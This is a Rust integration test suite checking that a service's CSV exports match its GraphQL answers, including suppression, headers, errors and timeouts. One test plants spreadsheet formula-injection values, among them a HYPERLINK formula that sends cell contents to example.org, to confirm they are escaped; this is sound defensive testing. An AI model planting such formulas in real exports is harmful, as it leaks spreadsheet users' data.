//! Answers as CSV files, compared with GraphQL.

use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::Duration;

use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use jsonwebtoken::{Algorithm, DecodingKey};
use serde_json::{Value, json};
use wayin::app::App;
use wayin::auth::jwt::TokenVerifier;
use wayin::clock::SystemClock;
use wayin::pattern::engine::{EngineSettings, PatternEngine};
use wayin_entity::Role;

use crate::support::app::{AUDIENCE, Client, ISSUER, SECRET, TestApp, sign_token};
use crate::support::builders::{organisation, record};
use crate::support::http::{export_address, get, send};
use crate::support::places::places_with;
use crate::support::{Database, tests_on_both_databases};

tests_on_both_databases![
    pattern_csv_matches_graphql,
    grid_distribution_and_flow_csv_match_graphql,
    associations_csv_matches_graphql,
    csv_head_has_citation_data,
    csv_works_over_post_and_get,
    formulas_are_escaped,
    csv_errors_match_graphql_errors,
    csv_query_timeout_is_reported,
];

/// Places. The name of one region looks like a formula.
fn places_csv() -> String {
    let more =
        "E06000008,Blackburn,LOCAL_AUTHORITY,E12000002,\nE06000009,Blackpool,LOCAL_AUTHORITY,E12000002,\n";
    places_with(more).replace(",North East,", ",=North East,")
}

const FUNDER: &str = "GB-CHC-20";
const FILES: [&str; 5] = ["pattern", "grid", "distribution", "flows", "associations"];

/// A database with open records, records for members and records that are only counted, of eight organisations.
/// Some cells have enough hidden records to be counted, and others have too few.
async fn start_with_mixed_visibility(database: Database) -> TestApp {
    let app = TestApp::start(database).await;
    app.import_places(&places_csv()).await;
    let records: Vec<Value> = (0..240)
        .map(|number: usize| {
            let place = match number % 24 {
                0 => "E06000009",
                1..6 => "E06000008",
                _ => "E06000001",
            };
            let months = [Some(12), Some(36), Some(18), None][number / 2 % 4];
            // Hidden records need several funders, or they are in no class.
            let funder = match number % 16 {
                2 => FUNDER.to_owned(),
                other if other % 4 >= 2 => format!("GB-CHC-{}", 40 + number % 12),
                _ => FUNDER.to_owned(),
            };
            let term = json!({"funder": organisation(&funder), "durationMonths": months});
            let challenge = ["SKIPPED", "TAKEN", "SKIPPED", "RUSHED", "SKIPPED"]
                .get(number / 3 % 6)
                .map(|step| json!({"challenge": "DEFINING_AMBITIONS", "step": step}));
            let taken = |entry_point: &str| json!({"entryPoint": entry_point, "perspective": "PRACTITIONER"});
            let entry_points = match number % 5 {
                0 => vec![taken("COLLABORATION"), taken("ROOT_CAUSES")],
                1 | 2 => vec![taken("COLLABORATION")],
                3 => vec![taken("COMPLEXITY"), taken("COLLABORATION")],
                _ => Vec::new(),
            };
            record(&number.to_string())
                .with(
                    "visibility",
                    ["OPEN", "MEMBERS", "AGGREGATE_ONLY", "AGGREGATE_ONLY"][number % 4],
                )
                .with("sharedWithFunders", number % 16 == 2)
                .with("illustrative", number % 40 == 4)
                .led_by(&format!("GB-CHC-{}", 1 + number / 4 % 8))
                .in_place(place)
                .with("fundingTerms", json!([term]))
                .with("challengesFaced", challenge.into_iter().collect::<Vec<_>>())
                .with("entryPoints", entry_points)
                .build()
        })
        .collect();
    app.publish(&records).await;
    app
}

/// A steward, a funder and a dashboard member.
async fn create_readers(app: &TestApp) -> [Client<'_>; 3] {
    [
        app.steward().await,
        app.create_member("funder", Role::Funder, Some(FUNDER)).await,
        app.create_member("dashboard", Role::Dashboard, None).await,
    ]
}

fn short_funding_filter() -> Value {
    json!({"fundingTerms": {"some": {"durationMonths": {"lte": 18}}}})
}

fn skipped_ambitions_filter() -> Value {
    json!({"challenge": {"on": "DEFINING_AMBITIONS", "step": {"in": ["SKIPPED"]}}})
}

fn post_request(file: &str, kind: &str, body: String) -> Request<Body> {
    Request::post(format!("/export/{file}.csv"))
        .header(header::CONTENT_TYPE, kind)
        .header(header::AUTHORIZATION, format!("Bearer {}", sign_token("steward")))
        .body(Body::from(body))
        .unwrap()
}

/// A parsed file.
#[derive(Debug)]
struct ParsedCsvFile {
    head: Vec<(String, String)>,
    rows: Vec<BTreeMap<String, String>>,
}

impl ParsedCsvFile {
    fn parse(written: &[u8]) -> Self {
        let text = std::str::from_utf8(written).unwrap();
        let text = text
            .strip_prefix('\u{feff}')
            .expect("the file begins with a UTF-8 byte order mark");
        let (head, table) = text.split_once("\r\n\r\n").expect("a head and a table");
        let head = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(head.as_bytes())
            .deserialize()
            .collect::<Result<_, _>>()
            .expect("each line of the head is a name and a value");
        let rows = csv::Reader::from_reader(table.as_bytes())
            .deserialize()
            .collect::<Result<_, _>>()
            .expect("each row is as wide as the header");
        Self { head, rows }
    }

    fn head_values(&self, name: &str) -> Vec<&str> {
        let lines = self.head.iter().filter(|(one, _)| one == name);
        lines.map(|(_, text)| text.as_str()).collect()
    }

    fn head_value(&self, name: &str) -> &str {
        match self.head_values(name)[..] {
            [text] => text,
            ref other => panic!("{name}: {other:?} in {:?}", self.head),
        }
    }
}

/// Downloads and parses a file as a reader.
async fn download_file(app: &TestApp, reader: &Client<'_>, name: &str, parameters: &Value) -> ParsedCsvFile {
    let request = get(&export_address(name, parameters), reader.authorization.as_deref());
    let (status, headers, body) = send(&app.app, request).await;
    assert_eq!(
        status,
        StatusCode::OK,
        "{name}: {}",
        String::from_utf8_lossy(&body)
    );
    for (header, expected) in [
        ("content-type", "text/csv; charset=utf-8".to_owned()),
        (
            "content-disposition",
            format!("attachment; filename=\"wayin-{name}.csv\""),
        ),
        ("cache-control", "no-store".to_owned()),
    ] {
        assert_eq!(headers[header], expected);
    }
    ParsedCsvFile::parse(&body)
}

/// Asserts that a cell has the same value as GraphQL. Null is an empty cell.
fn assert_cell(row: &BTreeMap<String, String>, column: &str, expected: &Value) {
    let cell = &row[column];
    let same = match expected {
        Value::Null => cell.is_empty(),
        Value::Number(number) => cell.parse().ok() == number.as_f64(),
        Value::String(text) => cell == text || (text.starts_with('=') && *cell == format!("'{text}")),
        other => panic!("{other} has no cell"),
    };
    assert!(same, "{column}: {cell:?} is not {expected} in {row:?}");
}

/// Asserts that the eight counts, the measures and the suppression rules match.
fn assert_table(row: &BTreeMap<String, String>, expected: &Value) {
    for (count, value) in expected["table"].as_object().unwrap() {
        assert_cell(row, count, value);
    }
    for figure in [
        "rateWhen",
        "rateOtherwise",
        "riskDifference",
        "riskRatio",
        "oddsRatio",
    ] {
        for (column, part) in [("", "value"), ("Lower", "lower"), ("Upper", "upper")] {
            assert_cell(row, &format!("{figure}{column}"), &expected[figure][part]);
        }
    }
    assert_cell(row, "phi", &expected["phi"]);
    let of_answer = &expected["disclosure"]["suppressed"];
    assert_suppressed(row, expected.get("suppressed").unwrap_or(of_answer));
}

fn assert_suppressed(row: &BTreeMap<String, String>, suppressed: &Value) {
    let output: Vec<String> = suppressed
        .as_array()
        .unwrap()
        .iter()
        .map(|one| {
            let count = one["count"].as_str().unwrap();
            assert_eq!(row[count], "", "{row:?}");
            format!("{count}: {}", one["rule"].as_str().unwrap())
        })
        .collect();
    assert_eq!(row["suppressed"], output.join("; "), "{row:?}");
}

/// Asserts that the head of the file matches the whole answer over GraphQL.
fn assert_head(file: &ParsedCsvFile, expected: &Value) {
    assert_eq!(file.head_value("scope"), expected["scope"]);
    assert_eq!(
        file.head_value("as of change"),
        expected["asOf"]["changeNumber"].to_string(),
        "{file:?}"
    );
    assert_eq!(file.head_value("as of date"), expected["asOf"]["changedAt"]);
    assert_eq!(file.head_value("licence"), expected["licence"]);
    if let Some(controlled) = expected["disclosure"]["applied"].as_bool() {
        assert_eq!(
            file.head_value("disclosure")
                .starts_with("Counts that include hidden records"),
            controlled
        );
    }
    if let Some(cautions) = expected["cautions"].as_array() {
        let texts: Vec<&str> = cautions.iter().map(|one| one["text"].as_str().unwrap()).collect();
        assert_eq!(file.head_values("caution"), texts);
    }
}

const CITATION_FIELDS: &str = "scope asOf { changeNumber changedAt } licence";
const SUPPRESSED_FIELDS: &str = "suppressed { count rule }";
const DISCLOSURE_FIELDS: &str = "disclosure { applied suppressed { count rule } }";
const MEASURE_FIELDS: &str =
    "table { population both whenOnly thenOnly neither unknown whenUnknown thenUnknown }
    visibleTable { population both whenOnly thenOnly neither unknown whenUnknown thenUnknown } basis
    rateWhen { value lower upper } rateOtherwise { value lower upper } riskDifference { value lower upper }
    riskRatio { value lower upper } oddsRatio { value lower upper } phi";

/// The answer over GraphQL to the same parameters.
async fn query_graphql(reader: &Client<'_>, query: &str, parameters: &Value) -> Value {
    let mut response = reader.execute_with(query, parameters.clone()).await;
    assert_eq!(response.get("errors"), None, "{response}");
    response["data"].take()
}

fn with_scope(parameters: &Value, over: &str) -> Value {
    let mut parameters = parameters.clone();
    parameters["scope"] = json!(over);
    parameters
}

async fn pattern_csv_matches_graphql(database: Database) {
    let app = start_with_mixed_visibility(database).await;
    let query = format!(
        "query($when: InitiativeFilter!, $then: InitiativeFilter!, $among: InitiativeFilter, $by: Dimension,
             $scope: RecordScope!) {{
           pattern(when: $when, then: $then, among: $among, by: $by, scope: $scope) {{
             summary {{ text }} unknownReasons {{ reason count suppressed }} {MEASURE_FIELDS} pValue conditionalOddsRatio {CITATION_FIELDS} {DISCLOSURE_FIELDS} cautions {{ text }}
             adjusted {{ oddsRatio {{ value lower upper }} riskRatio {{ value lower upper }} test {{ pValue }} }}
             groups(first: 100) {{ totalCount nodes {{ key label {MEASURE_FIELDS} {SUPPRESSED_FIELDS} }} }} }} }}"
    );
    let (when, then) = (short_funding_filter(), skipped_ambitions_filter());
    let (mut suppressed, mut adjusted) = (0, 0);
    for reader in create_readers(&app).await {
        for over in ["ALL", "VISIBLE"] {
            for parameters in [
                json!({"when": when, "then": then}),
                json!({"when": when, "then": then, "by": "PLACE"}),
                json!({"when": when, "then": then, "by": "WAY_IN"}),
                json!({"when": {}, "then": then, "by": "REGION",
                    "among": {"place": {"within": {"code": "E12000001"}}}}),
            ] {
                let parameters = with_scope(&parameters, over);
                let expected = &query_graphql(&reader, &query, &parameters).await["pattern"];
                let file = download_file(&app, &reader, "pattern", &parameters).await;
                assert_head(&file, expected);
                assert_eq!(file.head_value("summary"), expected["summary"]["text"]);
                let overall = &file.rows[0];
                assert_eq!(
                    (overall["part"].as_str(), overall["label"].as_str()),
                    ("overall", "All")
                );
                assert_table(overall, expected);
                assert_cell(overall, "pValue", &expected["pValue"]);
                assert_cell(overall, "conditionalOddsRatio", &expected["conditionalOddsRatio"]);
                let none = Vec::new();
                let groups = expected["groups"]["nodes"].as_array().unwrap_or(&none);
                let of_all = usize::from(!expected["adjusted"].is_null());
                adjusted += of_all;
                let of_unknown = expected["unknownReasons"].as_array().unwrap();
                assert_eq!(file.rows.len(), 1 + groups.len() + of_all + of_unknown.len());
                let (rows, last) = file.rows.split_at(file.rows.len() - of_unknown.len());
                for (row, output) in last.iter().zip(of_unknown) {
                    assert_eq!(row["part"], "unknownReasons");
                    assert_cell(row, "key", &output["reason"]);
                    assert_cell(row, "unknown", &output["count"]);
                    assert_eq!(
                        row["suppressed"].is_empty(),
                        output["suppressed"].is_null(),
                        "{row:?}"
                    );
                }
                if of_all == 1 {
                    let row = rows.last().unwrap();
                    assert_eq!(row["part"], "adjusted");
                    assert_cell(row, "pValue", &expected["adjusted"]["test"]["pValue"]);
                    for figure in ["oddsRatio", "riskRatio"] {
                        for (column, part) in [("", "value"), ("Lower", "lower"), ("Upper", "upper")] {
                            let output = &expected["adjusted"][figure][part];
                            assert_cell(row, &format!("{figure}{column}"), output);
                        }
                    }
                }
                for (row, group) in file.rows[1..].iter().zip(groups) {
                    assert_cell(row, "pValue", &Value::Null);
                    assert_eq!(row["part"], "group");
                    assert_cell(row, "label", &group["label"]);
                    assert_cell(row, "key", &group["key"]);
                    assert_table(row, group);
                    suppressed += usize::from(row["both"].is_empty());
                }
            }
        }
    }
    assert!(suppressed > 0, "some counts are suppressed");
    assert!(adjusted > 0, "some answers have adjusted measures");
}

async fn grid_distribution_and_flow_csv_match_graphql(database: Database) {
    let app = start_with_mixed_visibility(database).await;
    let arguments = "$among: InitiativeFilter, $scope: RecordScope!";
    let grid = format!(
        "query($rows: Dimension!, $columns: Dimension!, {arguments}) {{
           patternGrid(rows: $rows, columns: $columns, among: $among, scope: $scope) {{
             rows {{ key label }} columns {{ key label }} population illustrative {CITATION_FIELDS} {DISCLOSURE_FIELDS}
             cautions {{ text }} cells {{ row column count visibleCount expected residual suppressed }} }} }}"
    );
    let distribution = format!(
        "query($of: Dimension!, {arguments}) {{ distribution(of: $of, among: $among, scope: $scope) {{
           bins {{ key label count visibleCount illustrative {SUPPRESSED_FIELDS} }} {CITATION_FIELDS} {DISCLOSURE_FIELDS}
           cautions {{ text }} }} }}"
    );
    let flows = format!(
        "query($perspective: Perspective, {arguments}) {{
           entryPointFlows(perspective: $perspective, among: $among, scope: $scope) {{
             flows {{ perspective from to count visibleCount illustrative {SUPPRESSED_FIELDS} }} {CITATION_FIELDS} {DISCLOSURE_FIELDS}
             cautions {{ text }} }} }}"
    );
    for reader in create_readers(&app).await {
        for over in ["ALL", "VISIBLE"] {
            let parameters = json!({"rows": "PLACE", "columns": "CHALLENGE_AMBITIONS", "scope": over});
            let expected = &query_graphql(&reader, &grid, &parameters).await["patternGrid"];
            let found = download_file(&app, &reader, "grid", &parameters).await;
            assert_head(&found, expected);
            assert_eq!(found.head_value("population"), expected["population"].to_string());
            let cells = expected["cells"].as_array().unwrap();
            assert_eq!(found.rows.len(), cells.len());
            for (row, cell) in found.rows.iter().zip(cells) {
                for (heading, list) in [("row", "rows"), ("column", "columns")] {
                    let at = usize::try_from(cell[heading].as_u64().unwrap()).unwrap();
                    assert_cell(row, heading, &expected[list][at]["label"]);
                    assert_cell(row, &format!("{heading}Key"), &expected[list][at]["key"]);
                }
                for figure in ["count", "visibleCount", "expected", "residual"] {
                    assert_cell(row, figure, &cell[figure]);
                }
                let rule = cell["suppressed"].as_str();
                let rule = rule.map_or_else(String::new, |rule| format!("count: {rule}"));
                let rule_is_suppressed = !rule.is_empty();
                assert_eq!(row["suppressed"], rule);
                if rule_is_suppressed {
                    assert_eq!(row["count"], "", "{row:?}");
                }
            }
            let among = short_funding_filter();
            for (name, field, query, parameters, stayed) in [
                (
                    "distribution",
                    "distribution",
                    &distribution,
                    json!({"of": "PLACE"}),
                    None,
                ),
                (
                    "distribution",
                    "distribution",
                    &distribution,
                    json!({"of": "FUNDING_DURATION_BAND", "among": among}),
                    None,
                ),
                (
                    "flows",
                    "entryPointFlows",
                    &flows,
                    json!({"among": among}),
                    Some("to"),
                ),
                (
                    "flows",
                    "entryPointFlows",
                    &flows,
                    json!({"perspective": "PRACTITIONER"}),
                    Some("to"),
                ),
            ] {
                let parameters = with_scope(&parameters, over);
                let expected = query_graphql(&reader, query, &parameters).await;
                let list = if stayed.is_some() { "flows" } else { "bins" };
                let found = download_file(&app, &reader, name, &parameters).await;
                assert_head(&found, &expected[field]);
                let expected = expected[field][list].as_array().unwrap();
                assert_eq!(found.rows.len(), expected.len());
                for (row, one) in found.rows.iter().zip(expected) {
                    for column in row.keys().filter(|column| *column != "suppressed") {
                        if Some(column.as_str()) == stayed && one[column].is_null() {
                            assert_eq!(row[column], "STAYED");
                        } else {
                            assert_cell(row, column, &one[column]);
                        }
                    }
                    assert_suppressed(row, &one["suppressed"]);
                }
            }
        }
    }
}

async fn associations_csv_matches_graphql(database: Database) {
    let app = start_with_mixed_visibility(database).await;
    let query = format!(
        "query($conditions: [NamedCondition!]!, $among: InitiativeFilter, $scope: RecordScope!) {{
           associations(conditions: $conditions, among: $among, scope: $scope) {{
             pairs {{ when then {MEASURE_FIELDS} pValue qValue {SUPPRESSED_FIELDS} cautions {{ text }} }}
             {CITATION_FIELDS} {DISCLOSURE_FIELDS} cautions {{ text }} }} }}"
    );
    let conditions = json!([
        {"name": "short funding", "condition": short_funding_filter()},
        {"name": "=skipped", "condition": skipped_ambitions_filter()},
        {"name": "came in by collaboration", "condition": {"wayIn": {"in": ["COLLABORATION"]}}},
    ]);
    for reader in create_readers(&app).await {
        for over in ["ALL", "VISIBLE"] {
            let parameters = json!({"conditions": conditions, "scope": over,
                "among": {"place": {"within": {"code": "E12000001"}}}});
            let expected = query_graphql(&reader, &query, &parameters).await;
            let found = download_file(&app, &reader, "associations", &parameters).await;
            assert_head(&found, &expected["associations"]);
            let expected = expected["associations"]["pairs"].as_array().unwrap();
            assert_eq!((found.rows.len(), expected.len()), (3, 3));
            for (row, pair) in found.rows.iter().zip(expected) {
                for column in ["when", "then", "pValue", "qValue"] {
                    assert_cell(row, column, &pair[column]);
                }
                assert_table(row, pair);
                let cautions = pair["cautions"].as_array().unwrap().iter();
                let texts: Vec<&str> = cautions.map(|one| one["text"].as_str().unwrap()).collect();
                assert_eq!(row["cautions"], texts.join(" "));
            }
            assert_eq!(found.head_values("illustrative").len(), 1);
        }
    }
}

async fn csv_head_has_citation_data(database: Database) {
    let app = start_with_mixed_visibility(database).await;
    let [steward, _, dashboard] = create_readers(&app).await;
    let (when, then) = (short_funding_filter(), skipped_ambitions_filter());
    let parameters = json!({"when": when, "then": then, "by": "REGION", "minChangeNumber": 1});
    let names = |file: &ParsedCsvFile| {
        let mut names: Vec<String> = file.head.iter().map(|(name, _)| name.clone()).collect();
        names.dedup();
        names
    };
    let exact = download_file(&app, &steward, "pattern", &parameters).await;
    assert_eq!(
        names(&exact),
        [
            "about",
            "summary",
            "when",
            "then",
            "by",
            "scope",
            "disclosure",
            "as of change",
            "as of date",
            "illustrative",
            "caution",
            "source",
            "licence"
        ]
    );
    assert_eq!(exact.head_value("when"), when.to_string());
    assert_eq!(exact.head_value("by"), "REGION");
    assert_eq!(exact.head_value("illustrative"), "6");
    assert!(
        exact.head_value("source").starts_with("Wayin "),
        "{}",
        exact.head_value("source")
    );
    assert_eq!(exact.head_value("licence"), "CC-BY-4.0");
    let controlled = download_file(&app, &dashboard, "pattern", &parameters).await;
    assert!(names(&controlled).contains(&"hidden records as of date".to_owned()));
    for (name, parameters, asked) in [
        ("grid", json!({"rows": "PLACE", "columns": "WAY_IN"}), "rows"),
        ("distribution", json!({"of": "PLACE"}), "of"),
        ("flows", json!({"perspective": "FUNDER"}), "perspective"),
    ] {
        let file = download_file(&app, &steward, name, &parameters).await;
        assert_eq!(file.head_value(asked), parameters[asked]);
        assert!(!file.head_values("caution").is_empty());
    }
}

async fn csv_works_over_post_and_get(database: Database) {
    let app = start_with_mixed_visibility(database).await;
    let steward = app.steward().await;
    let conditions = json!([
        {"name": "a", "condition": short_funding_filter()}, {"name": "b", "condition": skipped_ambitions_filter()}
    ]);
    for (name, parameters) in FILES.into_iter().zip([
        json!({"when": short_funding_filter(), "then": skipped_ambitions_filter(), "by": "PLACE", "minChangeNumber": 1}),
        json!({"rows": "REGION", "columns": "WAY_IN", "among": short_funding_filter()}),
        json!({"of": "REGION", "scope": "VISIBLE"}),
        json!({"perspective": "PRACTITIONER"}),
        json!({"conditions": conditions}),
    ]) {
        let by_get = get(
            &export_address(name, &parameters),
            steward.authorization.as_deref(),
        );
        let (status, _, by_get) = send(&app.app, by_get).await;
        let mut with_null = parameters.clone();
        if parameters.get("among").is_none() {
            with_null["among"] = Value::Null;
        }
        let body = with_null.to_string();
        let (_, _, by_post) = send(&app.app, post_request(name, "application/json; charset=utf-8", body)).await;
        assert_eq!(status, StatusCode::OK, "{}", String::from_utf8_lossy(&by_get));
        assert_eq!(
            String::from_utf8_lossy(&by_post),
            String::from_utf8_lossy(&by_get)
        );
    }
}

async fn formulas_are_escaped(database: Database) {
    let app = TestApp::start(database).await;
    app.import_places(&places_csv()).await;
    let formula = "=HYPERLINK(\"https://example.org/?\"&A1,\"more\")";
    app.publish(&[record("1")
        .in_place("E06000001")
        .with(
            "leadOrganisation",
            json!({"identifier": "GB-CHC-7", "name": formula}),
        )
        .build()])
        .await;
    let steward = app.steward().await;
    let labels = async |of: &str| {
        let file = download_file(&app, &steward, "distribution", &json!({"of": of})).await;
        file.rows
            .iter()
            .map(|row| row["label"].clone())
            .collect::<Vec<_>>()
    };
    assert_eq!(
        labels("REGION").await,
        ["'=North East", "North West", "West Midlands", "Not known"]
    );
    assert_eq!(
        labels("LEAD_ORGANISATION").await,
        [format!("'{formula}"), "Not known".to_owned()]
    );
    let names = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"];
    let conditions: Vec<Value> = names
        .iter()
        .map(|name| json!({"name": name, "condition": {"title": {"contains": name}}}))
        .collect();
    let file = download_file(&app, &steward, "associations", &json!({"conditions": conditions})).await;
    for row in &file.rows {
        for column in ["when", "then"] {
            let name = row[column].strip_prefix('\'').expect("a mark before it");
            assert!(names.contains(&name), "{name:?}");
        }
        // A negative number is not escaped as a formula.
        assert!(row["riskDifference"].is_empty() || row["riskDifference"].parse::<f64>().is_ok());
    }
    for (_, text) in &file.head {
        assert!(!text.starts_with(['=', '+', '-', '@', '\t', '\r']), "{text:?}");
    }
}

/// The message and the code of an error.
fn parse_error(body: &[u8]) -> (String, String) {
    let answer: Value = serde_json::from_slice(body)
        .unwrap_or_else(|error| panic!("{}: {error}", String::from_utf8_lossy(body)));
    let error = &answer["errors"][0];
    let text = |value: &Value| {
        value
            .as_str()
            .unwrap_or_else(|| panic!("no error in {answer}"))
            .to_owned()
    };
    (text(&error["message"]), text(&error["extensions"]["code"]))
}

/// A condition on more answers than one question can be about under disclosure control: as JSON, and as GraphQL.
fn four_answers() -> (Value, String) {
    let challenges = [
        "DEFINING_AMBITIONS",
        "UNDERSTANDING_LOCAL_SYSTEM",
        "FOSTERING_CONDITIONS",
    ];
    let change = json!({"condition": {"on": "GOVERNANCE", "change": {"eq": "ALTERED"}}});
    let steps = challenges.map(|of| json!({"challenge": {"on": of, "step": {"in": ["SKIPPED"]}}}));
    let in_query = challenges.map(|of| format!("{{challenge: {{on: {of}, step: {{in: [SKIPPED]}}}}}}"));
    let all: Vec<Value> = steps.into_iter().chain([change]).collect();
    let in_query = in_query.join(", ");
    (
        json!({"and": all}),
        format!("{{and: [{in_query}, {{condition: {{on: GOVERNANCE, change: {{eq: ALTERED}}}}}}]}}"),
    )
}

async fn csv_errors_match_graphql_errors(database: Database) {
    let app = start_with_mixed_visibility(database).await;
    let [steward, _, dashboard] = create_readers(&app).await;
    for name in FILES {
        let (status, headers, body) = send(&app.app, get(&format!("/export/{name}.csv"), None)).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED);
        assert_eq!(headers[header::WWW_AUTHENTICATE], "Bearer");
        let output = app.anonymous().query_error("{ viewer { role } }").await;
        assert_eq!(parse_error(&body), output);
    }
    let among = r#"{"startedOn":{"gte":"2020-01-01"},"titel":{"eq":"x"}}"#;
    for (path, expected) in [
        ("pattern.csv?then={}", "when: is needed"),
        ("pattern.csv?when={}&then={", "then: \"{\" is not JSON; "),
        ("pattern.csv?when=1&then={}", "when: "),
        (
            "pattern.csv?when={}&then={}&rows=PLACE",
            "rows: this file has no such parameter; it has when, then, among, by, scope, minChangeNumber",
        ),
        (
            "pattern.csv?when={}&then={}&when={}",
            "when: is given more than once",
        ),
        ("pattern.csv?when={}&then={}&by=TOWN", "by: "),
        ("pattern.csv?when={}&then={}&scope=NONE", "scope: "),
        (
            "pattern.csv?when={}&then={}&minChangeNumber=last",
            "minChangeNumber: is not a whole number",
        ),
        (
            "pattern.csv?when={}&then={\"title\":{}}",
            "then.title: says nothing to compare with",
        ),
        (
            "grid.csv?rows=PLACE&columns=REGION&among=AMONG",
            "among.titel: is not a field",
        ),
        ("grid.csv?rows=PLACE", "columns: is needed"),
        ("distribution.csv?among={}", "of: is needed"),
        ("distribution.csv?of=PLACE&first=1", "first: "),
        ("flows.csv?perspective=NOBODY", "perspective: "),
        ("associations.csv?conditions=[]", "conditions: 0 are given"),
        (
            "associations.csv?conditions=[{\"name\":\"a\",\"condition\":{\"x\":1}}]",
            "conditions.0.condition.x: is not a field",
        ),
    ] {
        let path = path.replace("AMONG", among);
        let address = format!(
            "/export/{}",
            path.replace('{', "%7B")
                .replace('}', "%7D")
                .replace('"', "%22")
                .replace('[', "%5B")
                .replace(']', "%5D")
        );
        let (status, headers, body) = send(&app.app, get(&address, steward.authorization.as_deref())).await;
        let (message, code) = parse_error(&body);
        assert_eq!(
            (status, code.as_str()),
            (StatusCode::BAD_REQUEST, "BAD_USER_INPUT"),
            "{path}: {message}"
        );
        assert!(message.starts_with(expected), "{path}: {message}");
        assert_eq!(headers[header::CACHE_CONTROL], "no-store");
        assert_eq!(headers[header::CONTENT_TYPE], "application/json");
    }
    let (when, when_in_query) = four_answers();
    let address = export_address("pattern", &json!({"when": when, "then": {}}));
    let (status, _, body) = send(&app.app, get(&address, dashboard.authorization.as_deref())).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    let output = dashboard
        .query_error(&format!(
            "{{ pattern(when: {when_in_query}, then: {{}}) {{ summary {{ text }} }} }}"
        ))
        .await;
    assert_eq!(
        (parse_error(&body), output.1.as_str()),
        (output.clone(), "DISCLOSURE_CONTROL")
    );
    let whole = json!({"of": "PLACE"}).to_string();
    let long = format!("{{\"of\": \"{}\"}}", "x".repeat(300 * 1024));
    for (kind, body, expected) in [
        ("text/plain", whole.clone(), StatusCode::UNSUPPORTED_MEDIA_TYPE),
        ("application/json", "[]".into(), StatusCode::BAD_REQUEST),
        ("application/json", "{\"of\": 1}".into(), StatusCode::BAD_REQUEST),
        ("application/json", long, StatusCode::PAYLOAD_TOO_LARGE),
    ] {
        let (status, _, body) = send(&app.app, post_request("distribution", kind, body)).await;
        assert_eq!(
            (status, parse_error(&body).1.as_str()),
            (expected, "BAD_USER_INPUT"),
            "{kind}"
        );
    }
    let put = Request::put("/export/grid.csv").body(Body::empty()).unwrap();
    assert_eq!(send(&app.app, put).await.0, StatusCode::METHOD_NOT_ALLOWED);
}

async fn csv_query_timeout_is_reported(database: Database) {
    let app = TestApp::start(database).await;
    let steward = app.steward().await;
    let over = |settings: EngineSettings| {
        let key = DecodingKey::from_secret(SECRET);
        let verifier = TokenVerifier::new(Algorithm::HS256, key, ISSUER, AUDIENCE);
        let engine = Arc::new(PatternEngine::new(settings).unwrap());
        Arc::new(App::new(
            app.app.db.clone(),
            verifier,
            Arc::new(SystemClock),
            engine,
        ))
    };
    let request = |address: &str| get(address, steward.authorization.as_deref());
    let address = "/export/distribution.csv?of=PLACE";
    let (status, _, body) = send(&over(EngineSettings::default()), request(address)).await;
    assert_eq!(
        (status, parse_error(&body).1.as_str()),
        (StatusCode::SERVICE_UNAVAILABLE, "NOT_READY")
    );
    // The query waits for a change that never comes, until its deadline.
    let late = over(EngineSettings {
        deadline: Duration::from_millis(50),
        ..EngineSettings::default()
    });
    late.engine.catch_up(&late.db, &|_| ()).await.unwrap();
    let (status, _, body) = send(&late, request(&format!("{address}&minChangeNumber=1000"))).await;
    assert_eq!(
        (status, parse_error(&body).1.as_str()),
        (StatusCode::GATEWAY_TIMEOUT, "QUERY_TIMEOUT")
    );
    // If the requester cannot be identified, the request fails.
    app.app.db.close_by_ref().await.unwrap();
    let (status, _, body) = send(&app.app, request(address)).await;
    assert_eq!(
        (status, parse_error(&body).1.as_str()),
        (StatusCode::SERVICE_UNAVAILABLE, "INTERNAL")
    );
}
